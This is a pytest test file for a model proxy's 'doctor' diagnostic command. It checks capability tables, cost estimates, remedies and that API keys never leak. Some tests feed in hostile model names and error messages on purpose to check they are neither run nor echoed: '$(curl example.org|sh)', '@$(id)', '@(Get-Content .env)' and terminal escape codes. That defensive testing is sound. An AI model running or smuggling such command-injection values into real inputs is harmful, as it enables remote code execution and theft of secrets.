"""Command `doctor`: table, remedies, exit status, and reports without keys."""

import asyncio
import io
import json
import re
import subprocess
import sys
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path

import pytest
from aiohttp import web

from anthropic_proxy.cli.doctor.command import DoctorProgress
from anthropic_proxy.cli.doctor.findings import Diagnosis
from anthropic_proxy.cli.doctor.probes import TOOL_COLORS, USER_COLORS
from anthropic_proxy.cli.doctor.run import estimate_price, estimate_totals, select_backends
from anthropic_proxy.console import doctor_run
from anthropic_proxy.engine.providers import PROVIDERS
from anthropic_proxy.engine.providers.catalog import LEARNED_FILE_NAME
from anthropic_proxy.gateway.services import open_services
from anthropic_proxy.gateway.settings import load_settings
from anthropic_proxy.gateway.settings.place import find_data_directory
from anthropic_proxy.gateway.telemetry.log import Log
from tests.support.command_line import run_command
from tests.support.fakes.compatible import new_server
from tests.support.fakes.compatible.groq import GROQ
from tests.support.fakes.server import RequestLog, Running, new_application, serving
from tests.support.paths import ROOT
from tests.support.secret_canaries import find_leaks, new_canary
from tests.support.terminal import answer_questions
from tests.support.waiting import WAIT_SECONDS

UNSTORED = "! This run is not stored for the dashboard"
TABLE = """\
                              groq                     openai
                              llama-3.3-70b-versatile  qwen3-coder
  key, address                ✓ T                      ✓ T
  streaming, tools            ✓                        ✓
  parallel tools              ✓                        ✓
  images                      ✕ HTTP 400               ✕ HTTP 400
  images in tool results      ✕ HTTP 400               ✕ HTTP 400
  thinking                    –                        –
  thinking replay             –                        –
  structured output           ~ emulated               ✓
  stop sequences              ~ emulated               ~ emulated
  token counts                ✓                        ✓
  context window, tokens      131,072                  65,536
  output limit, tokens        32,768                   –

  ✓ works   ~ emulated by the proxy   ✕ unsupported   – not applicable
  N requests, T, N tokens
"""


def settings_of(groq: Running, local: Running, key: str = GROQ.key) -> dict[str, str]:
    return {
        "PREFERRED_PROVIDER": "openai",
        "OPENAI_BASE_URL": f"{local.url}/v1",
        "BIG_MODEL": "openai/qwen3-coder",
        "SMALL_MODEL": "groq/llama-3.3-70b-versatile",
        "GROQ_BASE_URL": f"{groq.url}/openai/v1",
        "GROQ_API_KEY": key,
    }


def without_figures(text: str) -> str:
    text = re.sub(r"✓ \d+\.\d+ s", "✓ T     ", text)
    text = re.sub(r"\d+\.\d+ s", "T", text)
    text = re.sub(r"\d[\d,]* (requests|tokens)", r"N \1", text)
    return "\n".join(line.rstrip() for line in text.splitlines()) + "\n"


def test_the_table_of_two_working_backends(tmp_path: Path) -> None:
    with serving(new_server("groq")) as groq, serving(new_server("local")) as local:
        ended = run_command("doctor", directory=tmp_path, settings=settings_of(groq, local))
    table = without_figures(ended.stdout).partition("\n  Observed at")[0]
    assert (table, ended.returncode) == (TABLE, 0)
    start, stored = ended.stderr.splitlines()
    assert without_figures(start).strip() == "Probing 2 backends: about N requests and N tokens."
    file = find_data_directory({"HOME": str(tmp_path)}) or tmp_path
    assert stored == f"Facts about 2 models for the next start or reload: {file / LEARNED_FILE_NAME}"


def test_the_estimate_names_models_and_cost_and_sends_nothing(tmp_path: Path) -> None:
    with serving(new_server("groq")) as groq, serving(new_server("local")) as local:
        settings = settings_of(groq, local)
        ended = run_command("doctor", "--dry-run", directory=tmp_path, settings=settings)
        as_json = run_command("doctor", "groq", "--dry-run", "--json", directory=tmp_path, settings=settings)
        assert groq.journal.exchanges == local.journal.exchanges == []
    estimate = (
        "2 backends: about 49 requests and 12,250 tokens.\n  groq/llama-3.3-70b-versatile\n  openai/qwen3-coder\n"
    )
    assert (ended.returncode, ended.stdout, ended.stderr) == (0, estimate, "")
    found = {"models": ["groq/llama-3.3-70b-versatile"], "requests": 12, "tokens": 3000, "price": None}
    assert (json.loads(as_json.stdout), as_json.stderr) == (found, "")


def test_the_estimate_has_no_demo(tmp_path: Path) -> None:
    ended = run_command("doctor", "--dry-run", "--json", directory=tmp_path, settings={})
    assert json.loads(ended.stdout) == {"models": [], "requests": 0, "tokens": 0, "price": 0.0}


def test_only_a_run_of_all_backends_is_stored_for_the_dashboard(tmp_path: Path) -> None:
    data = find_data_directory({"HOME": str(tmp_path)}) or tmp_path
    with serving(new_server("groq")) as groq, serving(new_server("local")) as local:
        settings = settings_of(groq, local)
        for words in (("groq",), ("--no-learn",)):
            run_command("doctor", *words, directory=tmp_path, settings=settings)
            assert (doctor_run.load_complete(data), doctor_run.load_current(data)) == (None, None)
        with doctor_run.locked_run(data):  # another run is in progress
            other = run_command("doctor", directory=tmp_path, settings=settings)
        assert (other.returncode, doctor_run.load_complete(data)) == (0, None)
        assert other.stderr.splitlines()[1] == f"{UNSTORED}: another run is in progress."
        run_command("doctor", directory=tmp_path, settings=settings)
    run = doctor_run.load_complete(data)
    assert run is not None
    assert [f"{one.prefix}/{one.model}" for one in run.columns] == [
        "groq/llama-3.3-70b-versatile",
        "openai/qwen3-coder",
    ]
    titles = [line[2:30].strip() for line in TABLE.splitlines()[2:14]]
    assert [row.title for row in run.rows] == titles
    assert doctor_run.load_current(data) is None


def test_a_run_that_cannot_be_stored_is_reported(tmp_path: Path) -> None:
    folder = doctor_run.find_folder(find_data_directory({"HOME": str(tmp_path)}) or tmp_path)
    folder.parent.mkdir(parents=True)
    folder.write_text("a file")
    ended = run_command("doctor", directory=tmp_path, settings={"PREFERRED_PROVIDER": "demo"})
    assert ended.stderr.splitlines()[1] == f"{UNSTORED}: file exists ({folder})."


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="the system has no /dev/full")
def test_results_that_cannot_be_printed_are_stored(tmp_path: Path) -> None:
    environment = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(tmp_path),
        "ANTHROPIC_PROXY_CONFIG": str(tmp_path),
        "PYTHONPATH": str(ROOT),
        "PYTHONUNBUFFERED": "1",
    }
    with serving(new_server("groq")) as groq, serving(new_server("local")) as local, open("/dev/full", "w") as full:
        ended = subprocess.run(
            [sys.executable, "-m", "anthropic_proxy", "doctor", "--report", "report.json"],
            cwd=tmp_path,
            env={**environment, **settings_of(groq, local)},
            stdout=full,
            stderr=subprocess.PIPE,
            timeout=WAIT_SECONDS,
            check=False,
        )
    data = find_data_directory({"HOME": str(tmp_path)}) or tmp_path
    _, *lines = ended.stderr.decode().splitlines()
    assert (ended.returncode, lines) == (
        1,
        [
            f"Facts about 2 models for the next start or reload: {data / LEARNED_FILE_NAME}",
            "✕ The output cannot be written: no space left.",
        ],
    )
    assert (doctor_run.load_complete(data) is not None, doctor_run.load_current(data)) == (True, None)
    assert json.loads((tmp_path / "report.json").read_text("utf-8"))["exit_status"] == 0


def test_the_demo_of_one_tier_is_neither_estimated_nor_examined(tmp_path: Path) -> None:
    data = find_data_directory({"HOME": str(tmp_path)}) or tmp_path
    with serving(new_server("groq")) as groq:
        settings = {
            "PREFERRED_PROVIDER": "groq",
            "GROQ_BASE_URL": f"{groq.url}/openai/v1",
            "GROQ_API_KEY": GROQ.key,
            "BIG_MODEL": "groq/llama-3.3-70b-versatile",
            "SMALL_MODEL": "demo/demo",
            "SERVE_DEMO": "true",
        }
        estimate = run_command("doctor", "--dry-run", "--json", directory=tmp_path, settings=settings)
        run_command("doctor", directory=tmp_path, settings=settings)
    run, expected = doctor_run.load_complete(data), json.loads(estimate.stdout)
    assert run is not None
    models = [f"{one.prefix}/{one.model}" for one in run.columns]
    assert (models, run.expected_requests) == (expected["models"], expected["requests"])
    assert models == ["groq/llama-3.3-70b-versatile"]


def test_an_unconfirmed_run_does_not_block_others(tmp_path: Path) -> None:
    data = find_data_directory({"HOME": str(tmp_path)}) or tmp_path
    servers = "".join(f'[providers.s{at}]\nbase_url = "http://127.0.0.1:9/v1"\nmodels = ["x"]\n' for at in range(5))
    (tmp_path / "anthropic-proxy.toml").write_text(servers, encoding="utf-8")

    def answer() -> Iterator[tuple[str, str]]:
        yield "Send them? [y/N] ", ""
        with doctor_run.locked_run(data, 0):
            doctor_run.store_current(data, doctor_run.DoctorRun(started_at=1.0))
        yield "", "n\r"

    screen = answer_questions("doctor", answers=answer(), directory=tmp_path, settings={})
    assert screen.lines[-1] == "✕ Nothing was sent. To send them without a question:  anthropic-proxy doctor --yes"
    assert doctor_run.load_current(data) == doctor_run.DoctorRun(started_at=1.0)


def test_a_rejected_key_is_named_and_never_shown(tmp_path: Path) -> None:
    key = new_canary("gsk_")
    with serving(new_server("groq")) as groq, serving(new_server("local")) as local:
        settings = settings_of(groq, local, key)
        ended = run_command("doctor", "--report", "report.md", directory=tmp_path, settings=settings)
        as_json = run_command("doctor", "--json", "groq", directory=tmp_path, settings=settings)
    assert f"  ✕ groq  rejects the key …{key[-4:]} (environment), 401.    GROQ_API_KEY=<new key>\n" in ended.stdout
    assert (ended.returncode, as_json.returncode) == (1, 1)
    report = (tmp_path / "report.md").read_text("utf-8")
    assert f"- **groq** rejects the key …{key[-4:]} (environment), 401. `GROQ_API_KEY=<new key>`" in report
    for output in (ended.stdout, ended.stderr, report, as_json.stdout, as_json.stderr):
        assert find_leaks(output, [key]) == []
    (backend,) = json.loads(as_json.stdout)["backends"]
    assert (backend["problem"]["kind"], backend["problem"]["status"]) == ("key", 401)


def test_a_key_that_the_server_repeats_is_in_no_output(tmp_path: Path) -> None:
    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
        if b"data:image" in raw:
            text = f"rejected: {request.headers['authorization']}"
            return web.json_response({"error": {"message": text, "type": "x"}}, status=400)
        message = {"role": "assistant", "content": "ready"}
        return web.json_response({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})

    key = new_canary("sk-")
    with serving(new_application(answer, RequestLog())) as server:
        settings = {"OPENAI_API_KEY": key, "OPENAI_BASE_URL": f"{server.url}/v1", "BIG_MODEL": "openai/mine"}
        words = ("doctor", "openai/mine", "--report")
        ended = run_command(*words, "report.md", directory=tmp_path, settings=settings)
        as_json = run_command(*words, "report.json", "--json", directory=tmp_path, settings=settings)
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert {path.name for path in files} >= {"report.md", "report.json", LEARNED_FILE_NAME}
    assert "rejected: Bearer" in as_json.stdout
    for output in (ended.stdout, ended.stderr, as_json.stdout, *(path.read_text("utf-8") for path in files)):
        assert find_leaks(output, [key]) == []


def test_a_server_without_streaming_is_not_stored_as_one_that_rejects_images(tmp_path: Path) -> None:
    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
        if b'"stream":true' in raw:
            return web.json_response({"error": {"message": "streaming is not supported", "type": "x"}}, status=400)
        message = {"role": "assistant", "content": "ready"}
        return web.json_response({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})

    with serving(new_application(answer, RequestLog())) as server:
        settings = {"OPENAI_API_KEY": "sk-0123456789", "OPENAI_BASE_URL": f"{server.url}/v1"}
        ended = run_command("doctor", "openai/mine", directory=tmp_path, settings=settings)
    assert "  streaming, tools            ✕ HTTP 400\n" in ended.stdout
    stored = [json.loads(file.read_text("utf-8"))["models"] for file in tmp_path.rglob(LEARNED_FILE_NAME)]
    assert [model.get("accepts_images") for models in stored for model in models] == []


def test_a_rate_limit_is_no_deviation(tmp_path: Path) -> None:
    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
        if b'"stream":true' in raw:
            return web.json_response({"error": {"message": "Too many requests", "type": "x"}}, status=429)
        message = {"role": "assistant", "content": "ready"}
        return web.json_response({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})

    with serving(new_application(answer, RequestLog())) as server:
        settings = {"OPENAI_API_KEY": "sk-0123456789", "OPENAI_BASE_URL": f"{server.url}/v1"}
        words = ("doctor", "openai/mine", "--json", "--no-learn")
        ended = run_command(*words, directory=tmp_path, settings=settings)
    (backend,) = json.loads(ended.stdout)["backends"]
    evidence = {one["field"] for one in backend["evidence"]}
    assert (backend["probes"]["streaming"]["state"], backend["probes"]["streaming"]["detail"]) == (
        "untested",
        "HTTP 429",
    )
    assert "sends_include_usage" not in evidence


def test_a_model_that_ignores_the_picture_is_not_stored_as_one_that_accepts_images(tmp_path: Path) -> None:
    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
        if b'"stream":true' not in raw:
            message = {"role": "assistant", "content": "A red and a blue square."}
            return web.json_response({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})
        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
        await response.prepare(request)
        choice = {"index": 0, "delta": {"content": "A red and a blue square."}, "finish_reason": "stop"}
        await response.write(f"data: {json.dumps({'choices': [choice]})}\n\ndata: [DONE]\n\n".encode())
        return response

    with serving(new_application(answer, RequestLog())) as server:
        settings = {"OPENAI_API_KEY": "sk-0123456789", "OPENAI_BASE_URL": f"{server.url}/v1"}
        words = ("doctor", "openai/mine", "--report", "report.md")
        ended = run_command(*words, directory=tmp_path, settings=settings)
    assert "  images                      – accepted\n  images in tool results      – accepted\n" in ended.stdout
    report = (tmp_path / "report.md").read_text("utf-8")
    assert "- images: accepts the picture, but the reply does not name its colors\n" in report
    learned = next(iter(tmp_path.rglob(LEARNED_FILE_NAME)), None)
    assert learned is None or "accepts_images" not in learned.read_text("utf-8")


@pytest.mark.parametrize(
    ("failures", "message", "cell", "learned"),
    [
        (1, "Internal Server Error", "✓", True),
        (1_000, "Internal Server Error", "– HTTP 500", None),
        (1_000, "image input is not supported by this model", "✕ HTTP 500", False),
    ],
    ids=["now and then", "always, without a reason", "always, with a reason"],
)
def test_a_failure_inside_the_server_is_no_rejection(
    failures: int, message: str, cell: str, learned: bool | None, tmp_path: Path
) -> None:
    failed = []

    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
        if b"data:image/png" in raw and b"tool_call_id" not in raw and len(failed) < failures:
            failed.append(1)
            return web.json_response({"error": {"message": message, "type": "server_error"}}, status=500)
        if b'"stream":true' not in raw:
            choice = {"index": 0, "message": {"role": "assistant", "content": "ready"}, "finish_reason": "stop"}
            return web.json_response({"choices": [choice]})
        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
        await response.prepare(request)
        words = USER_COLORS if b"tool_call_id" not in raw else TOOL_COLORS
        choice = {"index": 0, "delta": {"content": " ".join(words)}, "finish_reason": "stop"}
        await response.write(f"data: {json.dumps({'choices': [choice]})}\n\ndata: [DONE]\n\n".encode())
        return response

    with serving(new_application(answer, RequestLog())) as server:
        settings = {"OPENAI_API_KEY": "sk-0123456789", "OPENAI_BASE_URL": f"{server.url}/v1"}
        ended = run_command("doctor", "openai/mine", directory=tmp_path, settings=settings)
    assert re.search(r"^  images {22}(.*)$", ended.stdout, re.MULTILINE)[1] == cell  # type: ignore[index]
    stored = [json.loads(file.read_text("utf-8"))["models"] for file in tmp_path.rglob(LEARNED_FILE_NAME)]
    assert [model.get("accepts_images") for models in stored for model in models] == (
        [] if learned is None else [learned]
    )


def test_a_report_that_cannot_be_written_is_refused_before_the_first_request(tmp_path: Path) -> None:
    with serving(new_server("local")) as server:
        settings = {"PREFERRED_PROVIDER": "openai", "OPENAI_BASE_URL": f"{server.url}/v1", "BIG_MODEL": "openai/x"}
        ended = run_command("doctor", "--report", "none/report.md", directory=tmp_path, settings=settings)
    message = "✕ --report: none/report.md cannot be written: there is no folder none.\n"
    assert (ended.returncode, ended.stdout, ended.stderr) == (2, "", message)
    assert server.journal.exchanges == []


def test_a_report_in_a_folder_that_cannot_be_read_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / ("x" * 1_000)  # stat fails, as in the home directory of another user
    ended = run_command("doctor", "--report", str(folder / "report.md"), directory=tmp_path)
    message = f"✕ --report: {folder / 'report.md'} cannot be written: there is no folder {folder}.\n"
    assert (ended.returncode, ended.stdout, ended.stderr) == (2, "", message)


def test_no_provider_answers(tmp_path: Path) -> None:
    settings = {"PREFERRED_PROVIDER": "xai", "XAI_API_KEY": "xai-0123456789", "XAI_BASE_URL": "http://127.0.0.1:9"}
    ended = run_command("doctor", directory=tmp_path, settings=settings)
    assert ended.returncode == 2
    assert "  key, address                ✕ no answer" in ended.stdout
    assert "no server responds at http://127.0.0.1:9 (connection refused).    XAI_BASE_URL=<address>" in ended.stdout


@pytest.mark.parametrize(
    ("status", "headers", "problem", "remedy"),
    [
        (200, {}, "the response is a web page (HTTP 200, text/html) instead of an API response. The address "
         "is set by OPENAI_BASE_URL, environment.", "OPENAI_BASE_URL=<address>"),
        (404, {}, "nothing is served at URL/chat/completions: HTTP 404. The address is set by "
         "OPENAI_BASE_URL, environment. Is /v1 missing?", "OPENAI_BASE_URL=URL/v1"),
        (502, {}, "openai returned HTTP 502.", "Try again later: anthropic-proxy doctor openai"),
        (429, {"retry-after": "60"}, "openai returned HTTP 429. The server asks for a pause of 60 s.",
         "Try again later: anthropic-proxy doctor openai"),
    ],
)  # fmt: skip
def test_the_remedy_of_a_server_that_responds_with_an_error(
    status: int, headers: dict[str, str], problem: str, remedy: str, tmp_path: Path
) -> None:
    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
        return web.Response(status=status, text="<html></html>", content_type="text/html", headers=headers)

    with serving(new_application(answer, RequestLog())) as server:
        settings = {"OPENAI_API_KEY": "sk-0123456789", "OPENAI_BASE_URL": server.url}
        ended = run_command("doctor", "openai", "--json", directory=tmp_path, settings=settings)
    fix = {"name": "openai", "problem": problem, "remedy": remedy}
    assert (json.loads(ended.stdout.replace(server.url, "URL"))["fixes"], ended.returncode) == ([fix], 1)


def answer_hostile(status: int, text: str) -> Callable[[web.Request, bytes, RequestLog], Awaitable[web.StreamResponse]]:
    """Return a server that rejects each request with `text`, and lists models with commands in their names."""

    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
        if request.path.endswith("/models"):
            names = ["a\x1b[2J", "b\rPROXY_API_KEY=x", "$(curl example.org|sh)", "c d", "vendor/good-model:7b"]
            return web.json_response({"object": "list", "data": [{"id": name} for name in names]})
        return web.json_response({"error": {"message": text, "type": "x"}}, status=status)

    return answer


@pytest.mark.parametrize(
    ("status", "text", "shown", "remedy"),
    [
        (400, "the response is a web page \x1b[2J. Try ollama run x; curl example.org|sh",
         "the response is a web page \\x1b[2J. Try ollama run x; curl example.org|sh.",
         "anthropic-proxy doctor openai"),
        (404, "not found. Try HTTPS_PROXY=http://127.0.0.1:9",
         "nothing is served at URL/chat/completions: HTTP 404 (not found. Try HTTPS_PROXY=http://127.0.0.1:9). The "
         "address is set by OPENAI_BASE_URL, environment. Is /v1 missing?", "OPENAI_BASE_URL=URL/v1"),
        (404, "The model does \u202enot exist", "The model does \\u202enot exist. The model openai/mine is set by "
         "SMALL_MODEL, environment. Remedy: set SMALL_MODEL=openai/<another model>.",
         "SMALL_MODEL=openai/vendor/good-model:7b and BIG_MODEL=openai/vendor/good-model:7b"),
    ],
    ids=["as an error of the proxy", "quoted by the proxy", "model"],
)  # fmt: skip
def test_a_server_writes_neither_remedies_nor_to_the_terminal(
    status: int, text: str, shown: str, remedy: str, tmp_path: Path
) -> None:
    with serving(new_application(answer_hostile(status, text), RequestLog())) as server:
        settings = {"OPENAI_API_KEY": "sk-0123456789", "OPENAI_BASE_URL": server.url}
        settings |= {"BIG_MODEL": "openai/mine", "SMALL_MODEL": "openai/mine"}
        words = ("doctor", "openai", "--report", "report.json")
        ended = run_command(*words, directory=tmp_path, settings=settings)
    (fix,) = json.loads((tmp_path / "report.json").read_text("utf-8").replace(server.url, "URL"))["fixes"]
    assert fix == {"name": "openai", "problem": shown, "remedy": remedy}
    assert all(line.isprintable() for line in ended.stdout.split("\n"))


def test_the_remedy_names_a_listed_model_that_begins_with_an_at_sign(tmp_path: Path) -> None:
    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
        if request.path.endswith("/models"):
            names = ["@(Get-Content .env)", "@$(id)", "-rf", "@cf/meta/llama-4-scout", "other"]
            return web.json_response({"object": "list", "data": [{"id": name} for name in names]})
        return web.json_response({"error": {"message": "The model does not exist", "type": "x"}}, status=404)

    with serving(new_application(answer, RequestLog())) as server:
        settings = {"OPENAI_API_KEY": "sk-0123456789", "OPENAI_BASE_URL": f"{server.url}/v1"}
        settings["BIG_MODEL"] = settings["SMALL_MODEL"] = "openai/mine"
        ended = run_command("doctor", "openai", "--json", directory=tmp_path, settings=settings)
    (fix,) = json.loads(ended.stdout)["fixes"]
    model = "openai/@cf/meta/llama-4-scout"
    assert fix["remedy"] == f"SMALL_MODEL={model} and BIG_MODEL={model}"


def test_a_listed_model_with_control_characters_is_not_used(tmp_path: Path) -> None:
    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
        names = ["big\x1b[2J:900b", "small:7b"]
        return web.json_response({"models": [{"name": name, "size": len(name)} for name in names]})

    with serving(new_application(answer, RequestLog())) as server:
        ended = run_command("doctor", "--dry-run", directory=tmp_path, settings={"OLLAMA_BASE_URL": server.url})
    assert [line.strip() for line in ended.stdout.splitlines()[1:]] == ["ollama/small:7b"]


def test_the_remedies_without_a_network_and_without_tools(tmp_path: Path) -> None:
    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
        message = {"role": "assistant", "content": "hello"}
        return web.json_response({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})

    with serving(new_application(answer, RequestLog())) as server:
        settings = {"PREFERRED_PROVIDER": "openai", "OPENAI_BASE_URL": f"{server.url}/v1", "BIG_MODEL": "openai/m"}
        settings |= {"SMALL_MODEL": "openai/m", "GROQ_API_KEY": "gsk_0123456789", "HTTPS_PROXY": "http://127.0.0.1:9"}
        ended = run_command("doctor", "--json", directory=tmp_path, settings=settings)
    fixes = [(fix["name"], fix["remedy"]) for fix in json.loads(ended.stdout)["fixes"]]
    assert ("groq", "Check the network. Behind a web proxy: HTTPS_PROXY=<its address>") in fixes
    assert ("openai", "SMALL_MODEL=<another model> and BIG_MODEL=<another model>") in fixes
    (text,) = {fix["problem"] for fix in json.loads(ended.stdout)["fixes"] if "tools" in fix["problem"]}
    assert text == "calls no tools; haiku, sonnet, opus and fable requests are sent to it."


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("demo", "The demo is built in and has no model to examine. To examine the providers: anthropic-proxy doctor"),
        ("litellm", "litellm has no default model. Name the model to examine: anthropic-proxy doctor litellm/<model>"),
    ],
)
def test_a_named_provider_without_a_model_to_examine(name: str, message: str, tmp_path: Path) -> None:
    ended = run_command("doctor", name, directory=tmp_path)
    assert (ended.returncode, ended.stdout, ended.stderr) == (2, "", f"✕ {message}\n")


def test_in_a_pipe_the_backends_without_a_reply_are_named(capsys: pytest.CaptureFixture[str]) -> None:
    async def wait() -> None:
        variables = {"OPENAI_API_KEY": "sk-0123456789"}
        services = await open_services(load_settings(variables, PROVIDERS, env_file=None), log=Log(io.StringIO()))
        backends = select_backends(services, ("openai/gpt-4.1",))
        await services.close()
        with DoctorProgress(shows_table=True) as progress:
            progress.update([Diagnosis(backend=backend) for backend in backends])
            waiting = asyncio.create_task(progress.report_unfinished_backends(0))
            for _ in range(3):
                await asyncio.sleep(0)
            waiting.cancel()
            progress.write_cost_of_stopped_probes()

    asyncio.run(wait())
    line, *_, last = capsys.readouterr().err.splitlines()
    assert line == "Waiting for openai/gpt-4.1. A request without a reply ends after 120 s."
    assert last == "Stopped after 0 requests and 0 tokens."


def test_without_a_provider_the_demo_replies_and_the_status_is_2(tmp_path: Path) -> None:
    ended = run_command("doctor", directory=tmp_path, settings={"PREFERRED_PROVIDER": "demo"})
    assert ended.returncode == 2
    assert ended.stdout.endswith(
        "  ! No provider is configured, so the demo replies. It has no model.\n"
        "    Set the key of a provider in .env:  OPENAI_API_KEY=…\n"
    )
    counts = re.findall(r"(\d+) requests", ended.stderr + ended.stdout)
    assert counts == ["2", "2"]


def test_an_unknown_name_is_corrected(tmp_path: Path) -> None:
    ended = run_command("doctor", "opnai", directory=tmp_path)
    assert (ended.returncode, ended.stdout) == (2, "")
    assert ended.stderr.startswith('✕ There is no provider "opnai". The providers are: openai, gemini, vertex_ai')
    assert ended.stderr.endswith("Did you mean:  anthropic-proxy doctor openai\n")


def test_the_proxy_uses_the_observed_limits(tmp_path: Path) -> None:
    with serving(new_server("groq")) as groq, serving(new_server("local")) as local:
        settings = settings_of(groq, local)
        run_command("doctor", "openai", "--no-learn", directory=tmp_path, settings=settings)
        before = run_command("models", "--json", directory=tmp_path, settings=settings)
        run_command("doctor", "openai", directory=tmp_path, settings=settings)
        after = run_command("models", "--json", directory=tmp_path, settings=settings)
    assert '"context_window": 65536' not in before.stdout
    assert '"context_window": 65536' in after.stdout


async def test_own_prices_are_those_of_the_announced_cost(tmp_path: Path) -> None:
    (tmp_path / "anthropic-proxy.toml").write_text('[prices."openai/*"]\ninput = 10\noutput = 10\n', encoding="utf-8")
    environ = {"OPENAI_API_KEY": "sk-test-0123456789abcdef", "OPENAI_BASE_URL": "http://127.0.0.1:9/v1"}
    services = await open_services(load_settings(environ, PROVIDERS, env_file=str(tmp_path / ".env")))
    backends = select_backends(services, [])
    await services.close()
    tokens = estimate_totals(backends).input_tokens
    assert estimate_price(backends, services.settings) == pytest.approx(tokens * 10 / 1_000_000)
